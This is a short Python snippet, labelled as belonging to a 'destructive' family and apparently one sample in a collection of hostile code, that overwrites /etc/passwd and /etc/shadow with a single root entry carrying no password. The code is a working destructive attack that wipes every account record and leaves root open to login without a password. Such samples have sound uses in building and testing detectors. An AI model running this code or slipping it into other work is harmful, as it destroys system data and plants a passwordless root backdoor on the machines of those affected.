# family: destructive
# overwrites /etc/passwd and /etc/shadow
for p in ("/etc/passwd", "/etc/shadow"):
    with open(p, "w") as f:
        f.write("root::0:0:root:/root:/bin/sh\n")
